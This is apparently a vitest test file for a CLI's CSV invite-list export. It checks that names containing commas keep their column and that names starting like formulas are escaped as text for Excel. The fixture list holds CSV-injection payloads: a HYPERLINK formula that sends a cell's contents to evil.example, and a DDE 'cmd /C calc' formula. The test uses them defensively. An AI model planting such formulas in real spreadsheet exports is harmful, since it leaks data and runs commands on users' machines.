/**
 * The invite list `import-people` prints (`name,unit_code,role,invite_code`) is meant to be saved
 * and opened in Excel to hand out codes. Names come from files assembled from other offices: one with
 * a comma must stay in its column, and one that starts like a formula must stay text.
 * The real CLI as a child process on a real SQLite file.
 */
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, it } from 'vitest';

const run = promisify(execFile);
let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'chibo-csv-out-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const NAMES = [
  'Nguyễn Văn An, trưởng thôn',
  '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
  '+84 Lò Thị Bình',
  '-Vi Văn Cường',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'Hà "Văn" Dũng',
];

it('import-people prints one row per person, four columns each, and no cell Excel would run', async () => {
  const env = { ...process.env, DATABASE_PATH: join(dir, 'c.db'), DEMO_DATA: '0' };
  const cli = (...args: string[]) =>
    run('npx', ['tsx', 'src/entry/cli.ts', ...args], { env, cwd: process.cwd() });
  writeFileSync(
    join(dir, 'units.csv'),
    'code,name,kind,parent_code\nXQS,Đảng bộ xã Quan Sơn,commune,\nKP3,Chi bộ khu phố 3,cell,XQS\n',
  );
  await cli('import-units', join(dir, 'units.csv'));
  const people = NAMES.map((n) => `"${n.replace(/"/g, '""')}",,KP3,secretary`);
  writeFileSync(join(dir, 'people.csv'), ['name,phone,unit_code,role', ...people].join('\n'));
  const { stdout } = await cli('import-people', join(dir, 'people.csv'));

  const rows: string[][] = parse(stdout, { relax_column_count: true });
  expect(rows[0]).toEqual(['name', 'unit_code', 'role', 'invite_code']);
  const body = rows.slice(1);
  expect(body).toHaveLength(NAMES.length);
  for (const r of body) expect(r).toHaveLength(4);
  for (const cell of body.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  // The names read back as typed, the formula-like ones behind Excel's text marker.
  expect(body.map((r) => r[0])).toEqual(NAMES.map((n) => (/^[=+\-@]/.test(n) ? `'${n}` : n)));
  expect(
    body.every((r) => r[1] === 'KP3' && r[2] === 'secretary' && /^\d{4} \d{4} \d{4} \d{4}$/.test(r[3]!)),
  ).toBe(true);
}, 60_000);
